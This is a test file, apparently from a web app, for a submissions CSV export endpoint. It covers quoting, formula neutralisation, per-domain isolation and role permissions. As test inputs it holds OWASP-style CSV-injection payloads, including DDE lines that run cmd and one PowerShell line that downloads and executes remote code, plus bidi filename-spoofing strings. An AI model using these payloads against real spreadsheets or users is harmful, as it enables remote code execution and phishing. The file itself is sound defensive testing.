import { describe, expect, it } from "vitest";
import { csvCell, exportFileName } from "../src/features/submissions/export-submissions.ts";
import { uniqueWord } from "./content-fixtures.ts";
import { call } from "./helpers.ts";
import {
  CATERING,
  createSubmissionsTestApp,
  FORBIDDEN,
  LOCAL,
  NOT_FOUND,
  parseCsv,
  UNAUTHORIZED,
} from "./submissions-fixtures.ts";

const { app, editor, siteAdminB, readers, insertSubmission, rowsNamed, exportCsv } =
  await createSubmissionsTestApp();

describe("GET /api/submissions/export", () => {
  it("sends the filtered submissions as a CSV file, quoted and safe to open", async () => {
    const word = uniqueWord("csv");
    const formula = await insertSubmission(LOCAL, {
      form: "contact",
      name: '=HYPERLINK("http://evil.example","click")',
      email: `formula.${word}@example.com`,
      phone: "+1 555 0100",
      message: `@SUM(A1:A2) ${word}`,
      created_at: new Date("2021-06-01T08:00:00Z"),
    });
    const quoting = await insertSubmission(LOCAL, {
      form: "catering",
      name: 'Smith, "Jo"',
      email: `quote.${word}@example.com`,
      phone: "",
      message: `Line one\r\nline two, ${word}`,
      fields: { guests: "30", note: "-2 tables" },
      created_at: new Date("2021-06-02T08:00:00Z"),
    });
    const tabbed = await insertSubmission(LOCAL, {
      form: "join",
      name: "\tTab",
      email: `tab.${word}@example.com`,
      message: `-minus ${word}`,
      created_at: new Date("2021-06-03T08:00:00Z"),
    });
    const foreign = await insertSubmission(CATERING, { message: `Foreign ${word}` });

    const res = await exportCsv(`?search=${word}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers["content-disposition"]).toBe(
      `attachment; filename="submissions-localhost-${today}.csv"`,
    );
    const text = res.body;
    expect(text.startsWith("id,form,name,email,phone,message,fields,created_at,held\r\n")).toBe(
      true,
    );
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example"",""click"")"`);
    expect(text).toContain(`"Smith, ""Jo"""`);

    const rows = parseCsv(text);
    expect(rows[0]).toEqual([
      "id",
      "form",
      "name",
      "email",
      "phone",
      "message",
      "fields",
      "created_at",
      "held",
    ]);
    expect(rows.slice(1)).toEqual([
      [
        String(tabbed.id),
        "join",
        "'\tTab",
        `tab.${word}@example.com`,
        "",
        `'-minus ${word}`,
        "{}",
        "2021-06-03T08:00:00.000Z",
        "no",
      ],
      [
        String(quoting.id),
        "catering",
        'Smith, "Jo"',
        `quote.${word}@example.com`,
        "",
        `Line one\r\nline two, ${word}`,
        expect.stringMatching(/^\{.*\}$/),
        "2021-06-02T08:00:00.000Z",
        "no",
      ],
      [
        String(formula.id),
        "contact",
        `'=HYPERLINK("http://evil.example","click")`,
        `formula.${word}@example.com`,
        "'+1 555 0100",
        `'@SUM(A1:A2) ${word}`,
        "{}",
        "2021-06-01T08:00:00.000Z",
        "no",
      ],
    ]);
    expect(JSON.parse(rows[2][6])).toEqual({ guests: "30", note: "-2 tables" });
    expect(text).not.toContain(`Foreign ${word}`);

    // The list's filters apply.
    const onlyJoin = parseCsv((await exportCsv(`?search=${word}&form=join`)).body);
    expect(onlyJoin.slice(1).map((r) => r[0])).toEqual([String(tabbed.id)]);
    const dated = parseCsv(
      (await exportCsv(`?search=${word}&endDate=${encodeURIComponent("2021-06-02 08:00:00")}`))
        .body,
    );
    expect(dated.slice(1).map((r) => r[0])).toEqual([String(quoting.id), String(formula.id)]);
    const nothing = await exportCsv(`?search=${uniqueWord()}`);
    expect(nothing.body).toBe("id,form,name,email,phone,message,fields,created_at,held\r\n");

    // Another domain's export is its own, named after its host.
    const theirs = await exportCsv(`?search=${word}`, siteAdminB, "catering.localhost");
    expect(theirs.headers["content-disposition"]).toBe(
      `attachment; filename="submissions-catering.localhost-${today}.csv"`,
    );
    expect(
      parseCsv(theirs.body)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual([String(foreign.id)]);

    const bad = await exportCsv("?form=party");
    expect(bad.statusCode).toBe(422);
    expect(bad.json().errors).toHaveProperty("form");
  });

  it("neutralizes formulas and quotes cells (unit)", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell(12)).toBe("12");
    expect(csvCell("=1+1")).toBe(`"'=1+1"`);
    expect(csvCell("+1")).toBe(`"'+1"`);
    expect(csvCell("-1")).toBe(`"'-1"`);
    expect(csvCell("@x")).toBe(`"'@x"`);
    expect(csvCell("\tx")).toBe(`"'\tx"`);
    expect(csvCell("\rx")).toBe(`"'\rx"`);
    expect(csvCell(" =1")).toBe(`"' =1"`);
    expect(csvCell("\u00A0\n=1")).toBe(`"'\u00A0\n=1"`);
    expect(csvCell("\u200B=1")).toBe(`"'=1"`);
    expect(csvCell("\uFF1D1+1")).toBe(`"'\uFF1D1+1"`);
    expect(csvCell("x;=1+1;y")).toBe(`"x;=1+1;y"`);
    expect(csvCell("a;b")).toBe(`"a;b"`);
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell("a\nb")).toBe('"a\nb"');
    expect(csvCell("Eve\u202Egnp.exe")).toBe("Evegnp.exe");
    expect(csvCell("")).toBe("");
    expect(exportFileName("catering.localhost", new Date("2024-02-03T23:00:00Z"))).toBe(
      "submissions-catering.localhost-2024-02-03.csv",
    );
  });

  it("is safe with OWASP CSV-injection payloads in comma and semicolon locales", async () => {
    const word = uniqueWord("owasp");
    const payloads = [
      "=1+1",
      "+1",
      "-1+1",
      "@SUM(1)",
      '=HYPERLINK("http://x","y")',
      "=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(58)&CHAR(47)&CHAR(47)&CHAR(120),CHAR(121))",
      "=cmd|' /C calc'!A0",
      "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "x;=1+1;y",
      "x;+1;y",
      "x; @SUM(1);y",
      "x,=1+1,y",
      "x;HYPERLINK(CHAR(104)&CHAR(116),CHAR(121));y",
      "a;\t=1",
      "\t=1",
      " =1",
      "\r=1",
      "\n=1",
      "\u00A0=1",
      "\u200B=1+1",
      "\u202E=1+1",
      "\uFF1D1+1",
      '"=1+1"',
      '";=1+1;"',
      "x\r\n=1+1",
      "x\n;=1+1",
    ];
    const rows = [];
    for (const [i, payload] of payloads.entries()) {
      rows.push(
        await insertSubmission(LOCAL, {
          form: "contact",
          name: payload,
          email: `p${i}.${word}@example.com`,
          phone: payload,
          message: `${payload} ${word}`,
          fields: { note: payload, [`k${i}`]: payload },
        }),
      );
    }
    const res = await exportCsv(`?search=${word}`);
    expect(res.statusCode).toBe(200);
    const formula =
      /^[\s\u200B-\u200F\u202A-\u202E\u2066-\u2069\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
    for (const separator of [",", ";"] as const) {
      const parsed = parseCsv(res.body, separator);
      for (const row of parsed) {
        for (const cell of row) {
          expect(formula.test(cell), `${separator} ${JSON.stringify(cell)}`).toBe(false);
          expect(/^[\t\r]/.test(cell), `${separator} ${JSON.stringify(cell)}`).toBe(false);
        }
      }
      // A `;` spreadsheet never splits a line of this comma file (every `;` is inside quotes).
      if (separator === ";") {
        expect(parsed.every((row) => row.length === 1)).toBe(true);
      }
    }
    // With commas the payloads come back whole, behind an apostrophe when formula-like.
    const parsed = parseCsv(res.body);
    expect(parsed).toHaveLength(payloads.length + 1);
    for (const row of parsed.slice(1)) {
      expect(row).toHaveLength(9);
      const payload = payloads[rows.findIndex((r) => String(r.id) === row[0])];
      const visible = payload.replace(/[\u200B\u202E]/gu, "");
      const expected = /^(?:[\t\r]|\s*[=+\-@\uFF1D])/u.test(visible) ? `'${visible}` : visible;
      expect(row[2], JSON.stringify(payload)).toBe(expected);
      expect(row[4], JSON.stringify(payload)).toBe(expected);
      expect(JSON.parse(row[6]).note, JSON.stringify(payload)).toBe(visible);
    }
  });

  it("marks held submissions and leaves invisible characters out", async () => {
    const word = uniqueWord("heldcsv");
    const held = await insertSubmission(LOCAL, {
      name: "Eve\u202Egnp.exe",
      message: `Held \u2066${word}`,
      held: true,
    });
    const rows = parseCsv((await exportCsv(`?search=${word}`)).body);
    expect(rows.slice(1)).toEqual([
      [
        String(held.id),
        "contact",
        "Evegnp.exe",
        "row@example.com",
        "",
        `Held ${word}`,
        "{}",
        held.created_at.toISOString(),
        "yes",
      ],
    ]);
    const notHeld = parseCsv((await exportCsv(`?search=${word}&held=false`)).body);
    expect(notHeld).toHaveLength(1);
  });
});

describe("role matrix", () => {
  const ownRow = () => insertSubmission(LOCAL);
  let foreignId = 0;

  it("refuses anonymous callers with 401 on every read and the delete", async () => {
    const row = await ownRow();
    for (const [method, url] of [
      ["GET", "/api/submissions"],
      ["GET", `/api/submissions/${row.id}`],
      ["GET", "/api/submissions/export"],
      ["DELETE", `/api/submissions/${row.id}`],
    ] as const) {
      const res = await call(app, method, url);
      expect(res.status, `${method} ${url}`).toBe(401);
      expect(res.body, `${method} ${url}`).toEqual(UNAUTHORIZED);
    }
    expect(await rowsNamed(row.name)).toHaveLength(1);
  });

  it("lets roles 1, 2 and 3 read the list, a detail and the export of their domain", async () => {
    const row = await ownRow();
    for (const { role, token } of readers) {
      const list = await call(
        app,
        "GET",
        `/api/submissions?search=${encodeURIComponent(row.name)}`,
        {
          token,
        },
      );
      expect(list.status, role).toBe(200);
      expect(
        list.body.data.map((r: { id: number }) => r.id),
        role,
      ).toEqual([row.id]);
      const detail = await call(app, "GET", `/api/submissions/${row.id}`, { token });
      expect(detail.status, role).toBe(200);
      expect(detail.body.data.id, role).toBe(row.id);
      const csv = await exportCsv(`?search=${encodeURIComponent(row.name)}`, token);
      expect(csv.statusCode, role).toBe(200);
      expect(
        parseCsv(csv.body)
          .slice(1)
          .map((r) => r[0]),
        role,
      ).toEqual([String(row.id)]);
    }
  });

  it("lets roles 1 and 2 delete, and refuses the editor with 403", async () => {
    const row = await ownRow();
    const refused = await call(app, "DELETE", `/api/submissions/${row.id}`, { token: editor });
    expect(refused.status).toBe(403);
    expect(refused.body).toEqual(FORBIDDEN);
    expect(await rowsNamed(row.name)).toHaveLength(1);
    for (const { role, token } of readers.slice(0, 2)) {
      const mine = await ownRow();
      const res = await call(app, "DELETE", `/api/submissions/${mine.id}`, { token });
      expect(res.status, role).toBe(200);
      expect(await rowsNamed(mine.name), role).toHaveLength(0);
    }
  });

  it("answers 404 to every role of domain A asking for domain B's submission", async () => {
    const foreign = await insertSubmission(CATERING, { name: `Theirs ${uniqueWord()}` });
    foreignId = foreign.id;
    for (const { role, token } of readers) {
      // On its own API host and on the other domain's: the token's domain decides.
      for (const host of ["localhost", "catering.localhost"]) {
        const label = `${role} on ${host}`;
        const detail = await call(app, "GET", `/api/submissions/${foreignId}`, { token, host });
        expect(detail.status, label).toBe(404);
        expect(detail.body, label).toEqual(NOT_FOUND);
        const del = await call(app, "DELETE", `/api/submissions/${foreignId}`, { token, host });
        if (token === editor) {
          expect(del.status, label).toBe(403);
        } else {
          expect(del.status, label).toBe(404);
          expect(del.body, label).toEqual(NOT_FOUND);
        }
        const list = await call(app, "GET", `/api/submissions?search=${foreign.name}`, {
          token,
          host,
        });
        expect(list.body.data, label).toEqual([]);
        const csv = await exportCsv(`?search=${encodeURIComponent(foreign.name)}`, token, host);
        expect(parseCsv(csv.body), label).toHaveLength(1);
      }
    }
    expect(await rowsNamed(foreign.name)).toHaveLength(1);

    // Its own domain's site admin reads and deletes it.
    const detail = await call(app, "GET", `/api/submissions/${foreignId}`, {
      token: siteAdminB,
      host: "catering.localhost",
    });
    expect(detail.status).toBe(200);
    const del = await call(app, "DELETE", `/api/submissions/${foreignId}`, {
      token: siteAdminB,
      host: "catering.localhost",
    });
    expect(del.status).toBe(200);
    expect(await rowsNamed(foreign.name)).toHaveLength(0);
  });

  it("refuses domain B's site admin on domain A's submissions with 404", async () => {
    const row = await ownRow();
    for (const host of ["catering.localhost", "localhost"]) {
      const detail = await call(app, "GET", `/api/submissions/${row.id}`, {
        token: siteAdminB,
        host,
      });
      expect(detail.status, host).toBe(404);
      const del = await call(app, "DELETE", `/api/submissions/${row.id}`, {
        token: siteAdminB,
        host,
      });
      expect(del.status, host).toBe(404);
    }
    expect(await rowsNamed(row.name)).toHaveLength(1);
  });
});
